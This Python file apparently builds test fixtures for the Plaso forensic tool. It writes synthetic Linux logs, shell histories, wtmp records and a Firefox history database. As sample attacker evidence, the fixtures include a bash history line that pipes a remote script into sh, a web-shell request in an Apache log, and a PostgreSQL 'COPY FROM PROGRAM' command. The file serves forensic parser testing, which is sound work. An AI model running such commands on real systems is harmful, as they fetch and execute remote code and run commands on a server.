"""Small files of a system that other parsers of Plaso read."""

# Lines of logs are not wrapped.
# pylint: disable=line-too-long

import gzip
import io
import os
import sqlite3
import struct
import zipfile

_TIME = 1798761600

# What follows the name of a file is its text.
_TEXT_FILES = {
    "home/user/.bash_history": (
        f"#{_TIME:d}\ncurl -s http://192.0.2.66/x.sh | sh\n#{_TIME + 60:d}\nls -la\n"
    ),
    "home/user/.zsh_history": f": {_TIME:d}:0;whoami\n: {_TIME + 5:d}:0;ps aux\n",
    "home/user/.local/share/fish/fish_history": (
        f"- cmd: sudo su -\n  when: {_TIME:d}\n- cmd: id\n  when: {_TIME + 9:d}\n"
    ),
    "var/log/apache2/access.log": (
        '192.0.2.9 - - [01/Jan/2027:00:00:09 +0000] "GET /shell.php?c=id HTTP/1.1" 200 51'
        ' "-" "curl/7.88.1"\n'
    ),
    "var/log/apt/history.log": (
        "\nStart-Date: 2027-01-01  00:10:00\nCommandline: apt-get install gcc\n"
        "Requested-By: user (1000)\n"
        "Install: gcc:amd64 (4:12.2.0-3)\nEnd-Date: 2027-01-01  00:10:09\n"
    ),
    # An exit code that is no number, as of a Windows system in the same case.
    "pca/PcaGeneralDb0.txt": (
        "2027-01-01 00:00:00.000|2|%programfiles%\\x.exe|X|Y|1.0|0006|"
        "Abnormal program exit with code 0xc0000005\r\n"
    ),
    "var/log/audit/audit.log": (
        f"type=SYSCALL msg=audit({_TIME:d}.123:42): arch=c000003e syscall=59 success=yes"
        " exit=0 a0=1 a1=2 ppid=4700 pid=4711 auid=1000 uid=33 gid=33 euid=0 ses=3"
        ' comm="curl" exe="/usr/bin/curl"\n'
        f"type=LOGIN msg=audit({_TIME + 1:d}.456:43): pid=4720 uid=0 old-auid=4294967295"
        " auid=0 tty=(none) old-ses=4294967295 ses=4 res=1\n"
    ),
    "var/log/auth.log": (
        "Jan  1 00:00:01 host sshd[4699]: Accepted password for user from 192.0.2.9 port"
        " 51234 ssh2\n"
        "Jan  1 00:00:02 host CRON[4701]: pam_unix(cron:session): session opened for user"
        " root by (uid=0)\n"
        "Jan  1 00:00:03 host kernel: Linux version 6.1.0-1-amd64\n"
    ),
    "var/log/bodyfile": (
        f"0|/tmp/x.sh|1234|r/rrwxr-xr-x|33|33|512|{_TIME:d}|{_TIME:d}|{_TIME:d}|0\n"
    ),
    "var/log/dpkg.log": (
        "2027-01-01 00:10:05 startup archives unpack\n"
        "2027-01-01 00:10:06 install gcc:amd64 <none> 4:12.2.0-3\n"
        "2027-01-01 00:10:07 status installed gcc:amd64 4:12.2.0-3\n"
    ),
    "var/log/postgresql/postgresql.log": (
        "2027-01-01 00:00:00.310 UTC [468] postgres@test LOG:  statement: COPY x FROM"
        " PROGRAM 'id'\n"
        "2027-01-01 00:00:01.310 UTC [469] LOG:  checkpoint starting: time\n"
    ),
    "var/log/vsftpd.log": (
        'Thu Jan  1 00:00:00 2027 [pid 2] CONNECT: Client "192.0.2.9"\n'
        'Thu Jan  1 00:00:05 2027 [pid 1] [user] OK LOGIN: Client "192.0.2.9"\n'
    ),
    "var/lib/docker/containers/0123456789ab/0123456789ab-json.log": (
        '{"log":"listening\\n","stream":"stdout","time":"2027-01-01T00:00:00.5Z"}\n'
    ),
}


def _CreateDatabase(path):
    """Creates a history of Firefox.

    Args:
      path (str): path of the file.
    """
    connection = sqlite3.connect(path)
    connection.executescript(f"""
        CREATE TABLE moz_places (id, url, title, rev_host, visit_count, hidden, typed);
        CREATE TABLE moz_historyvisits (id, from_visit, place_id, visit_date, visit_type);
        CREATE TABLE moz_bookmarks (id, type, fk, title, dateAdded, lastModified);
        CREATE TABLE moz_items_annos (id, item_id, content, dateAdded, lastModified);
        INSERT INTO moz_places VALUES (1, 'http://192.0.2.66/', 'x', '66.2.0.291.', 1, 0, 1);
        INSERT INTO moz_historyvisits VALUES (1, 0, 1, {_TIME:d}000000, 1);
        """)
    connection.commit()
    connection.close()


def _GetLoginRecord(record_type, pid, terminal, username, timestamp):
    """Makes a record of wtmp.

    Args:
      record_type (int): type.
      pid (int): process identifier.
      terminal (bytes): terminal.
      username (bytes): name of the user.
      timestamp (int): seconds since January 1, 1970.

    Returns:
      bytes: record.
    """
    return struct.pack(
        "<hxxi32s4s32s256shhiii16s20x",
        *(record_type, pid, terminal, b"ts/0", username, b"192.0.2.9", 0, 0, 1),
        *(timestamp, 0, b"\xc0\x00\x02\x09"),
    )


def Create(directory):
    """Creates the files.

    Args:
      directory (str): path of a directory.
    """
    files = {path: text.encode("utf-8") for path, text in _TEXT_FILES.items()}
    files["var/log/wtmp"] = _GetLoginRecord(
        2, 0, b"~", b"reboot", _TIME
    ) + _GetLoginRecord(7, 4702, b"pts/0", b"user", _TIME + 1)
    files["var/log/auth.log.2.gz"] = gzip.compress(files["var/log/auth.log"])
    with io.BytesIO() as file_object:
        with zipfile.ZipFile(file_object, "w") as zip_file:
            zip_file.writestr("var/log/auth.log", files["var/log/auth.log"])
        files["home/user/logs.zip"] = file_object.getvalue()

    for path, data in files.items():
        path = os.path.join(directory, path)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file_object:
            file_object.write(data)

    _CreateDatabase(os.path.join(directory, "home", "user", "places.sqlite"))
